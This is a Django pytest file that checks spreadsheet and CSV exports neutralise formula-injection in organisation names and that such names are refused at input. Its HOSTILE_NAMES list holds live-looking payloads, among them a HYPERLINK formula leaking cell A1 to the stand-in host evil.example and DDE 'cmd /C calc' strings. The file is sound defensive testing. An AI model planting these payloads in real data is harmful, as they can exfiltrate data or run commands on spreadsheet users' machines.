"""Formula injection (issue 14, point 2): a name written like a formula stays text in every
spreadsheet and CSV export — read back with openpyxl (an independent XLSX reader) and
Python's csv module — and new names of that shape are refused at input."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from essaim.core.exceptions import ServiceError
from essaim.organisations.models import Organisation
from essaim.organisations.services import organisation_create, organisation_update
from essaim.reporting.opendata import opendata_publish
from essaim.reporting.rollups import rollups_refresh
from tests.reporting.conftest import figures, intro, trainers_course, year  # noqa: F401 (fixtures)

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "\uff1d1+1",
]


@pytest.fixture
def hostile_organiser(figures):  # noqa: F811
    """The partner organisation of the figures, renamed as an attacker would (data that
    predates the input check, or came from an outside register)."""
    partner = figures["partner"]
    Organisation.objects.filter(pk=partner.pk).update(name=HOSTILE_NAMES[0])
    rollups_refresh()
    return partner


def _xlsx_cells(response) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)), data_only=False)
    return [cell for row in workbook.active.iter_rows() for cell in row]


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_public_xlsx_export_keeps_a_formula_like_name_as_text(client, hostile_organiser, year):  # noqa: F811
    response = client.get(reverse("reporting:public_export", args=["trimestres", "xlsx"]), {"year": year})
    assert response.status_code == 200
    cells = [c for c in _xlsx_cells(response) if c.value == HOSTILE_NAMES[0]]
    assert cells, "the organisation's name is in the export"
    assert all(c.data_type == "s" for c in cells)  # a string cell, not a formula ("f")


def test_internal_xlsx_and_csv_exports_neutralise_the_name(client, hostile_organiser, year, programme_admin):  # noqa: F811
    client.force_login(programme_admin)
    cells = _xlsx_cells(client.get(reverse("reporting:internal_export", args=["sessions", "xlsx"]), {"year": year}))
    assert HOSTILE_NAMES[0] in [c.value for c in cells]
    assert not any(c.data_type == "f" for c in cells)
    rows = _csv_rows(client.get(reverse("reporting:internal_export", args=["sessions", "csv"]), {"year": year}))
    cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert cells == ["'" + HOSTILE_NAMES[0]] * len(cells) and cells


def test_open_data_csv_neutralises_text_that_starts_like_a_formula(client, figures, ministry):  # noqa: F811
    Organisation.objects.filter(pk=ministry.pk).update(name="=1+1")
    rollups_refresh()
    opendata_publish()
    response = client.get(reverse("reporting:dataset_csv", args=["sessions-tenues"]))
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for cell in row]
    assert "'=1+1" in cells
    assert not any(cell.lstrip(" ").startswith(("=", "+", "@", "\t")) for cell in cells)


def test_the_registrants_and_framework_csv_use_the_same_rule():
    from essaim.core.spreadsheets import neutralise, restore

    for name in HOSTILE_NAMES:
        assert neutralise(name) == "'" + name
        assert restore(neutralise(name)) == name
    assert neutralise(-3) == -3 and neutralise("Ministère") == "Ministère"


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_formula_like_organisation_name_is_refused_by_the_service(name, programme_admin):
    with pytest.raises(ServiceError, match=r"formule|une ligne"):
        organisation_create(name=name, kind="partner", acting_user=programme_admin)
    organisation = organisation_create(name="Association Tout va bien", kind="partner", acting_user=programme_admin)
    with pytest.raises(ServiceError, match=r"formule|une ligne"):
        organisation_update(organisation=organisation, acting_user=programme_admin, name=name)
    organisation.refresh_from_db()
    assert organisation.name == "Association Tout va bien"


def test_the_organisation_form_refuses_a_formula_like_name(client, programme_admin, ministry):
    client.force_login(programme_admin)
    response = client.post(reverse("organisations:edit", args=[ministry.slug]), {"name": "=HYPERLINK(1)"})
    assert response.status_code == 400
    assert "comme une formule" in response.content.decode()
    ministry.refresh_from_db()
    assert ministry.name != "=HYPERLINK(1)"
